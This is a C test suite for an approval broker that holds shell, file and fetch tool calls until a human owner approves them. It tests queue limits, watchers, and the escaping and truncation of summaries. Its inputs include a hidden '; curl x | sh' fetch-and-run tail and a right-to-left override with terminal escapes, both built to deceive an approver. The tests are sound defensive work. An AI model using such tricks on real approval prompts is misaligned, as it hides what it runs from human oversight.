  /* Another uid still reaches the owner. */
  if (geteuid () == 0)
    {
      int status = 0;
      pid_t other = calls_as (&b, OTHER_UID, 1, "s1", args);
      ck_assert_int_eq (waitpid (other, &status, 0), other);
      ck_assert_msg (WIFEXITED (status) && WEXITSTATUS (status) == 0,
                     "another uid's call did not wait (status %d)", status);
    }
  /* One of its own leaves: its call still waits and keeps its place, taken over by the same
   * call asked again; another call still has no room until one is answered. */
  cleanup_free char *first = NULL;
  {
    json_t *l = admin (&b, "{\"v\":1,\"op\":\"list\"}");
    size_t k;
    json_t *p;
    json_array_foreach (json_object_get (l, "pending"), k, p)
    {
      if (strcmp (json_string_value (json_object_get (p, "call")), "w0") == 0)
        first = bx_xstrdup (json_string_value (json_object_get (p, "approval")));
    }
    json_decref (l);
  }
  ck_assert_ptr_nonnull (first);
  close (fds[0]);
  ck_assert (wait_client_left (&b, first));
  fd = send_call (&b, "over2", "s2", "read_file", args);
  f = read_final (fd, 10000);
  ck_assert_str_eq (msg_type (f), "denied");
  json_decref (f);
  close (fd);
  fd = send_call (&b, "again", "s1", "read_file", args);
  cleanup_free char *taken = read_pending (fd, "again");
  ck_assert_str_eq (taken, first);
  close (fd);
  int i;
  for (i = 1; i < BX_APPROVALS_MAX_PENDING_PER_UID; i++)
    close (fds[i]);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

static int
cmp_long (const void *a, const void *b)
{
  long x = *(const long *)a, y = *(const long *)b;
  return x < y ? -1 : x > y;
}

static long
median_of_ordinary_calls (struct broker *b, int n)
{
  long *t = bx_xzalloc (sizeof (long) * (size_t)n);
  for (int i = 0; i < n; i++)
    t[i] = ordinary_call_us (b);
  qsort (t, (size_t)n, sizeof *t, cmp_long);
  long m = t[n / 2];
  free (t);
  return m;
}

static int
threads_of (pid_t pid)
{
  char path[64];
  snprintf (path, sizeof path, "/proc/%d/status", (int)pid);
  cleanup_free char *status = read_text (path);
  const char *t = strstr (status, "Threads:");
  return t ? atoi (t + 8) : -1;
}

/* PID's thread count once it has held still for 300 ms (or after 10 s): the calls socket's
 * workers come and go on their own, a leader held up by a connection being relieved by a
 * new one. */
static int
settled_threads_of (pid_t pid)
{
  int last = threads_of (pid);
  for (int still_ms = 0, waited_ms = 0; still_ms < 300 && waited_ms < 10000; waited_ms += 50)
    {
      sleep_ms (50);
      int now = threads_of (pid);
      still_ms = now == last ? still_ms + 50 : 0;
      last = now;
    }
  return last;
}

START_TEST (test_approvals_fifty_waiting_calls_leave_ordinary_calls_their_latency)
{
  struct broker b;
  /* max_connections 8: fifty waiting calls would take every slot if they held one. */
  broker_init (&b, "    approval: always\n", "max_connections: 8\nsocket_mode: 0666\n");
  broker_start (&b);
  /* Warm up the workers, then measure without and with fifty calls waiting. */
  median_of_ordinary_calls (&b, 20);
  long before = median_of_ordinary_calls (&b, 200);
  int threads_before = threads_of (b.d.pid);
  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  /* One uid waits with 32 at most: the rest are another's. */
  int fds[BX_APPROVALS_MAX_PENDING_PER_UID];
  char id[8];
  for (int i = 0; i < BX_APPROVALS_MAX_PENDING_PER_UID; i++)
    {
      snprintf (id, sizeof id, "w%d", i);
      fds[i] = send_call (&b, id, "s-wait", "read_file", args);
      free (read_pending (fds[i], id));
    }
  pid_t other = -1;
  if (geteuid () == 0)
    other = calls_as_holding (&b, OTHER_UID, 50 - BX_APPROVALS_MAX_PENDING_PER_UID, "s-wait", args,
                              true);
  else
    puts ("approvals: not root, so 32 calls wait, not 50");
  ck_assert_uint_eq (pending_count (&b), geteuid () == 0 ? 50 : BX_APPROVALS_MAX_PENDING_PER_UID);
  long during = median_of_ordinary_calls (&b, 200);
  int threads_during = threads_of (b.d.pid);
  printf ("approvals: ordinary call median %ld us alone, %ld us with 50 calls waiting "
          "(ratio %.2f); brokerd threads %d -> %d\n",
          before, during, (double)during / (double)before, threads_before, threads_during);
  /* Waiting costs no thread each, and the calls that need no approval keep their pace (a
   * generous bound: these machines are noisy). */
  ck_assert_int_le (threads_during, threads_before + 2);
  ck_assert_msg (during <= before * 3 + 2000, "median %ld us with 50 waiting, %ld us without",
                 during, before);
  for (int i = 0; i < BX_APPROVALS_MAX_PENDING_PER_UID; i++)
    close (fds[i]);
  if (other > 0)
    stop_holding (other);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

START_TEST (test_approvals_boxmaker_lists_and_watches)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  cleanup_free char *out = NULL;
  ck_assert_int_eq (boxmaker (&b, &out, "approvals", NULL, NULL, NULL), 0);
  ck_assert_str_eq (out, "no call waits for approval\n");

  /* A watcher started before the call sees it arrive and end. */
  char wpath[160];
  snprintf (wpath, sizeof wpath, "%s/watch.out", b.d.dir);
  pid_t watcher = fork ();
  if (watcher == 0)
    {
      int fd = open (wpath, O_WRONLY | O_CREAT | O_TRUNC, 0600);
      dup2 (fd, 1);
      execl (BOXMAKER_PATH, "boxmaker", "approvals", "--watch", "--admin-socket", b.d.admin,
             (char *)NULL);
      _exit (127);
    }
  sleep_ms (300);
  cleanup_free char *rargs = bx_xasprintf ("{\"path\":\"%s/n\\u001bx\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", rargs);
  cleanup_free char *approval = read_pending (fd, "c1");
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "approvals", NULL, NULL, NULL), 0);
  ck_assert_ptr_nonnull (strstr (out, approval));
  ck_assert_ptr_nonnull (strstr (out, "session s1 call c1  grant 1"));
  ck_assert_ptr_nonnull (strstr (out, "/n\\x1bx"));
  ck_assert_ptr_null (strchr (out, 0x1b));
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "decline", approval, NULL, NULL), 0);
  json_decref (read_final (fd, 10000));
  close (fd);
  sleep_ms (300);
  kill (watcher, SIGTERM);
  waitpid (watcher, NULL, 0);
  cleanup_free char *watched = read_text (wpath);
  cleanup_free char *arrived = bx_xasprintf ("pending %s", approval);
  cleanup_free char *ended = bx_xasprintf ("declined %s by uid %d", approval, (int)getuid ());
  ck_assert_msg (strstr (watched, arrived) != NULL, "%s", watched);
  ck_assert_msg (strstr (watched, ended) != NULL, "%s", watched);

  /* Usage errors and an unreachable socket. */
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "approve", NULL, NULL, NULL), 2);
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "approve", "not-hex", NULL, NULL), 2);
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "approvals", "--reason", "x", NULL), 2);
  ck_assert_int_eq (broker_stop (&b), 0);
  free (out);
  ck_assert_int_eq (boxmaker (&b, &out, "approvals", NULL, NULL, NULL), 3);
}
END_TEST

/* A `watch` over a fresh connection, its first frame (the list) read; the connection. */
static int
open_watch (struct broker *b)
{
  int w = connect_to (b->d.admin);
  ck_assert_int_ge (w, 0);
  json_t *req = json_pack ("{s:i, s:s}", "v", 1, "op", "watch");
  cleanup_error bx_error err = NULL;
  ck_assert (bx_frame_write (w, req, bx_deadline_in (5000), &err) == 0);
  json_decref (req);
  json_t *first = read_frame (w, 60000);
  ck_assert_msg (first != NULL, "no list for a watcher");
  ck_assert_str_eq (json_string_value (json_object_get (first, "type")), "list");
  json_decref (first);
  return w;
}

/* Owners' connections are sources of brokerd's loop: watchers, however many, add no
 * thread, and each still hears every event. */
START_TEST (test_approvals_watchers_add_no_thread_to_brokerd)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  int idle = settled_threads_of (b.d.pid);
  enum
  {
    WATCHERS = 8
  };
  int w[WATCHERS];
  for (int i = 0; i < WATCHERS; i++)
    w[i] = open_watch (&b);
  ck_assert_uint_eq (pending_count (&b), 0);
  /* A thread per watcher would be 8 more; a call worker started meanwhile is at most one. */
  int watching = settled_threads_of (b.d.pid);
  ck_assert_msg (watching <= idle + 1, "brokerd had %d threads idle, %d with %d watchers", idle,
                 watching, WATCHERS);

  cleanup_free char *args = bx_xasprintf ("{\"path\":\"%s/a\"}", b.notes);
  int fd = send_call (&b, "c1", "s1", "read_file", args);
  cleanup_free char *approval = read_pending (fd, "c1");
  for (int i = 0; i < WATCHERS; i++)
    {
      json_t *ev = read_frame (w[i], 60000);
      ck_assert_msg (ev != NULL, "watcher %d heard nothing", i);
      ck_assert_str_eq (json_string_value (json_object_get (ev, "type")), "pending");
      ck_assert_str_eq (json_string_value (json_object_get (ev, "approval")), approval);
      json_decref (ev);
    }
  close (fd);
  for (int i = 0; i < WATCHERS; i++)
    close (w[i]);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

/* A watcher that stops reading is dropped once a frame's worth of output waits for it, with
 * the reason in brokerd's log; the owner who reads, the calls and brokerd go on. */
START_TEST (test_approvals_a_watcher_that_does_not_read_is_dropped)
{
  struct broker b;
  broker_init (&b, "    approval: always\n", NULL);
  broker_start (&b);
  int stuck = open_watch (&b);
  int reader = open_watch (&b);

  /* Each call's pending event carries its arguments: four of 1.5 MB are more than the
   * 4 MB a connection holds plus what the socket takes. */
  enum
  {
    CALLS = 4,
    CONTENT = 1536 * 1024
  };
  char *content = bx_xmalloc (CONTENT + 1);
  memset (content, 'a', CONTENT);
  content[CONTENT] = '\0';
  int fds[CALLS];
  char *approvals[CALLS];
  for (int i = 0; i < CALLS; i++)
    {
      char id[8];
      snprintf (id, sizeof id, "c%d", i);
      cleanup_free char *args
          = bx_xasprintf ("{\"path\":\"%s/big%d\",\"content\":\"%s\"}", b.notes, i, content);
      fds[i] = send_call (&b, id, "s1", "write_file", args);
      approvals[i] = read_pending (fds[i], id);
      json_t *ev = read_frame (reader, 60000);
      ck_assert_msg (ev != NULL, "the reading watcher missed call %d", i);
      ck_assert_str_eq (json_string_value (json_object_get (ev, "type")), "pending");
      json_decref (ev);
    }
  free (content);

  cleanup_free char *log = NULL;
  for (int i = 0; i < 6000; i++)
    {
      free (log);
      log = read_text (b.d.out);
      if (strstr (log, "dropped the watcher of uid") != NULL)
        break;
      sleep_ms (10);
    }
  ck_assert_msg (strstr (log, "dropped the watcher of uid") != NULL, "%s", log);
  /* Its connection ended: what the socket held, then the end. */
  char buf[65536];
  ssize_t n = -1;
  struct pollfd p = { .fd = stuck, .events = POLLIN };
  while (poll (&p, 1, 60000) == 1 && (n = read (stuck, buf, sizeof buf)) > 0)
    ;
  ck_assert_int_eq (n, 0);
  close (stuck);

  /* The owners and the calls go on. */
  for (int i = 0; i < CALLS; i++)
    {
      cleanup_free char *req
          = bx_xasprintf ("{\"v\":1,\"op\":\"decline\",\"approval\":\"%s\"}", approvals[i]);
      json_t *answer = admin (&b, req);
      ck_assert_str_eq (json_string_value (json_object_get (answer, "type")), "done");
      json_decref (answer);
      json_t *f = read_final (fds[i], 60000);
      ck_assert_str_eq (msg_type (f), "denied");
      json_decref (f);
      json_t *ev = read_frame (reader, 60000);
      ck_assert_msg (ev != NULL, "the reading watcher missed the decline of call %d", i);
      ck_assert_str_eq (json_string_value (json_object_get (ev, "state")), "declined");
      json_decref (ev);
      close (fds[i]);
      free (approvals[i]);
    }
  close (reader);
  ck_assert_int_eq (broker_stop (&b), 0);
}
END_TEST

/* The summary of TOOL with ARGS under a config of a shell grant with two folders and an
 * http_fetch grant. */
static char *
summary_of (enum bx_tool tool, const char *args)
{
  static const char yaml[] = "admin_group: 0\n"
                             "grants:\n"
                             "  - tools: [shell]\n"
                             "    paths: [/srv/work, /srv/more]\n"
                             "    approval: always\n"
                             "  - tools: [http_fetch]\n"
                             "    hosts: [example.com]\n"
                             "    approval: always\n";
  struct bx_config *cfg = NULL;
  cleanup_error bx_error err = NULL;
  ck_assert_int_eq (bx_config_parse (yaml, strlen (yaml), "t.yaml", &cfg, &err), 0);
  struct bx_tool_args a = { 0 };
  ck_assert_int_eq (bx_tool_args_parse (tool, args, strlen (args), &a, &err), 0);
  struct bx_decision d;
  bx_policy_decide (cfg, &a, &d);
  ck_assert_int_eq (d.verdict, BX_ALLOWED);
  char *s = bx_approvals_summary (&d);
  bx_decision_clear (&d);
  bx_config_free (cfg);
  return s;
}

START_TEST (test_approvals_summary_is_short_and_printable)
{
  cleanup_free char *sh = summary_of (BX_TOOL_SHELL, "{\"command\":\"make test\"}");
  ck_assert_str_eq (sh, "shell in /srv/work (+1 more): make test");
  cleanup_free char *cwd
      = summary_of (BX_TOOL_SHELL, "{\"command\":\"ls\",\"cwd\":\"/srv/more/a\"}");
  ck_assert_str_eq (cwd, "shell in /srv/work (+1 more), cwd /srv/more/a: ls");
  cleanup_free char *fetch
      = summary_of (BX_TOOL_HTTP_FETCH, "{\"url\":\"https://Example.com/a?b=c\"}");
  ck_assert_str_eq (fetch, "http_fetch from example.com: https://Example.com/a?b=c");
  /* Printable ASCII only: control bytes, quotes and UTF-8 alike are escaped, so that no
   * right-to-left override (U+202E) or look-alike letter changes what the owner reads. */
  cleanup_free char *odd = summary_of (
      BX_TOOL_SHELL, "{\"command\":\"echo \\\"caf\u00e9\\\"\\u001b[2J\\nrm \u202e1.txt\"}");
  ck_assert_str_eq (odd,
                    "shell in /srv/work (+1 more): echo \\x22caf\\xc3\\xa9\\x22\\x1b[2J\\x0arm "
                    "\\xe2\\x80\\xae1.txt");
}
END_TEST

/* A command of 1000 "a" and a hidden end, as JSON text, with CWD (or none). */
static char *
long_command (const char *cwd)
{
  char as[1001];
  memset (as, 'a', 1000);
  as[1000] = '\0';
  return cwd ? bx_xasprintf ("{\"command\":\"%s; curl x | sh\",\"cwd\":\"%s\"}", as, cwd)
             : bx_xasprintf ("{\"command\":\"%s; curl x | sh\"}", as);
}

START_TEST (test_approvals_every_cut_of_a_summary_shows_where_the_eye_ends)
{
  /* A long command is cut to 200 bytes with "...", at the end. */
  cleanup_free char *args = long_command (NULL);
  cleanup_free char *cut = summary_of (BX_TOOL_SHELL, args);
  ck_assert_uint_eq (strlen (cut), strlen ("shell in /srv/work (+1 more): ") + 200);
  ck_assert_str_eq (cut + strlen (cut) - 4, "a...");
  ck_assert_ptr_null (strstr (cut, "curl"));
  /* With a cwd too: the command still comes last, its cut where the summary ends. */
  cleanup_free char *args_cwd = long_command ("/srv/more/a");
  cleanup_free char *cut_cwd = summary_of (BX_TOOL_SHELL, args_cwd);
  ck_assert_uint_eq (strlen (cut_cwd),
                     strlen ("shell in /srv/work (+1 more), cwd /srv/more/a: ") + 200);
  ck_assert_str_eq (cut_cwd + strlen (cut_cwd) - 4, "a...");
  /* A cut cwd before a whole command: the summary ends in "..." all the same. */
  char long_cwd[400] = "{\"command\":\"ls\",\"cwd\":\"/srv/more/";
  for (int i = 0; i < 300; i++)
    strcat (long_cwd, "d");
  strcat (long_cwd, "\"}");
  cleanup_free char *cwd_cut = summary_of (BX_TOOL_SHELL, long_cwd);
  ck_assert_str_eq (cwd_cut + strlen (cwd_cut) - 13, "ddd...: ls...");
  /* Escapes count: a part of 200 bytes once escaped, never cut inside an escape. */
  char quotes[400] = "{\"command\":\"";
  for (int i = 0; i < 80; i++)
    strcat (quotes, "\\\"");
  strcat (quotes, "\"}");
  cleanup_free char *escaped = summary_of (BX_TOOL_SHELL, quotes);
  const char *what = strstr (escaped, ": ") + 2;
  ck_assert_uint_eq (strlen (what), 49 * 4 + 3);
  ck_assert_str_eq (what + strlen (what) - 7, "\\x22...");
}
END_TEST

START_TEST (test_approvals_a_grant_is_known_by_its_content_not_its_place)
{
  static const char yaml[] = "admin_group: 0\n"
                             "grants:\n"
                             "  - tools: [shell]\n"
                             "    paths: [/srv/b]\n"
                             "    approval: once_per_session\n"
                             "  - tools: [shell]\n"
                             "    paths: [/srv/a]\n"
                             "    approval: once_per_session\n"
                             "\n"
                             "  - tools: [shell]\n"
                             "    paths: [/srv/a]\n"
                             "    approval: once_per_session\n"
                             "  - tools: [shell]\n"
                             "    paths: [/srv/a]\n"
                             "    approval: once_per_session\n"
                             "    untrusted: true\n"
                             "  - tools: [shell]\n"
                             "    paths: [/srv/a]\n"
                             "    approval: once_per_session\n"
                             "    limits: {time: 5s}\n";
  struct bx_config *cfg = NULL;
  cleanup_error bx_error err = NULL;
  ck_assert_msg (bx_config_parse (yaml, strlen (yaml), "t.yaml", &cfg, &err) == 0, "%s",
                 bx_error_msg (err));
  char *text[5];
  for (int i = 0; i < 5; i++)
    text[i] = bx_grant_canonical (&cfg->grants[i]);
  /* The same keys at another line: the same grant. */
  ck_assert_str_eq (text[1], text[2]);
  /* Another folder, trust or limit: another grant. */
  ck_assert_str_ne (text[0], text[1]);
  ck_assert_str_ne (text[1], text[3]);
  ck_assert_str_ne (text[1], text[4]);
  for (int i = 0; i < 5; i++)
    free (text[i]);
  bx_config_free (cfg);
}
END_TEST

START_TEST (test_approvals_a_write_file_summary_ends_with_its_path)
{
  static const char yaml[] = "admin_group: 0\n"
                             "grants:\n"
                             "  - tools: [write_file]\n"
                             "    paths: [/srv/work]\n"
                             "    approval: always\n";
  struct bx_config *cfg = NULL;
  cleanup_error bx_error err = NULL;
  ck_assert_int_eq (bx_config_parse (yaml, strlen (yaml), "t.yaml", &cfg, &err), 0);
  char args[600] = "{\"path\":\"/srv/work/";
  for (int i = 0; i < 300; i++)
    strcat (args, "p");
  strcat (args, "\",\"content\":\"abc\"}");
  struct bx_tool_args a = { 0 };
  ck_assert_int_eq (bx_tool_args_parse (BX_TOOL_WRITE_FILE, args, strlen (args), &a, &err), 0);
  struct bx_decision d;
  bx_policy_decide (cfg, &a, &d);
  ck_assert_int_eq (d.verdict, BX_ALLOWED);
  cleanup_free char *s = bx_approvals_summary (&d);
  ck_assert_str_eq (s + strlen (s) - 4, "p...");
  ck_assert_ptr_nonnull (strstr (s, "write_file in /srv/work (3 bytes): /srv/work/ppp"));
  bx_decision_clear (&d);
  bx_config_free (cfg);
}
END_TEST

static Suite *
suite (void)
{
  Suite *s = suite_create ("approvals");
  TCase *tc = tcase_create ("brokerd");
  tcase_set_timeout (tc, 60);
  tcase_add_test (tc, test_approvals_an_approved_call_runs_exactly_the_stored_bytes);
  tcase_add_test (tc, test_approvals_a_shell_call_without_cwd_is_shown_with_the_cwd_it_runs_in);
  tcase_add_test (tc, test_approvals_calls_that_wait_are_counted_in_the_metrics);
  tcase_add_test (tc, test_metrics_count_a_tool_refusal_as_refused);
  tcase_add_test (tc, test_approvals_an_approved_call_is_cancelled_when_its_client_leaves);
  tcase_add_test (tc, test_approvals_stopping_brokerd_answers_a_waiting_call_at_once);
  tcase_add_test (tc, test_approvals_stopping_brokerd_cancels_approved_calls_past_the_grace_period);
  tcase_add_test (tc, test_approvals_a_call_whose_pending_line_cannot_be_written_does_not_wait);
  tcase_add_test (tc, test_approvals_a_declined_call_is_denied_with_the_reason_made_safe);
  tcase_add_test (tc, test_approvals_an_unanswered_call_expires_naming_the_timeout);
  tcase_add_test (tc, test_approvals_a_client_that_leaves_ends_its_call_and_the_approval_waits);
  tcase_add_test (tc,
                  test_approvals_an_approval_given_after_the_client_left_runs_the_call_asked_again);
  tcase_add_test (tc, test_approvals_an_approval_whose_client_left_ends_at_its_expiry);
  tcase_add_test (tc, test_approvals_a_wrong_or_foreign_id_changes_nothing);
  tcase_add_test (tc, test_approvals_brokerd_refuses_an_admin_group_the_callers_share);
  tcase_add_test (tc, test_approvals_check_config_shows_the_approvals);
  tcase_add_test (tc, test_approvals_an_expiry_names_the_timeout_in_its_largest_unit);
  tcase_add_test (tc, test_approvals_stopping_brokerd_answers_every_waiting_call);
  tcase_add_test (tc,
                  test_approvals_once_per_session_covers_one_session_grant_and_tool_until_restart);
  tcase_add_test (tc, test_approvals_fifty_waiting_calls_leave_ordinary_calls_their_latency);
  tcase_add_test (tc, test_approvals_boxmaker_lists_and_watches);
  tcase_add_test (tc, test_approvals_watchers_add_no_thread_to_brokerd);
  tcase_add_test (tc, test_approvals_a_watcher_that_does_not_read_is_dropped);
  tcase_add_test (tc, test_approvals_summary_is_short_and_printable);
  tcase_add_test (tc, test_approvals_every_cut_of_a_summary_shows_where_the_eye_ends);
  tcase_add_test (tc, test_approvals_a_write_file_summary_ends_with_its_path);
  tcase_add_test (tc, test_approvals_a_grant_is_known_by_its_content_not_its_place);
  tcase_add_test (tc, test_approvals_the_admin_socket_refuses_malformed_requests);
  tcase_add_test (tc, test_approvals_one_uid_waits_with_32_calls_at_most);
  tcase_add_test (tc, test_approvals_an_admin_request_must_arrive_within_10_s);
  suite_add_tcase (s, tc);
  /* Other uids and groups: only root can take them. */
  TCase *root = bx_test_case_may_skip (s, "as_root");
  tcase_set_timeout (root, 60);
  tcase_add_test (root, test_approvals_the_admin_socket_is_refused_outside_its_group);
  tcase_add_test (root, test_approvals_brokerd_refuses_an_admin_group_it_cannot_give);
  tcase_add_test (root, test_approvals_past_256_waiting_a_call_is_denied_at_once);
  return s;
}

BX_TEST_MAIN_UNLESS (BX_HAVE_FAKE ? NULL : "fake.so is built only with BX_TEST_HOOKS", suite)
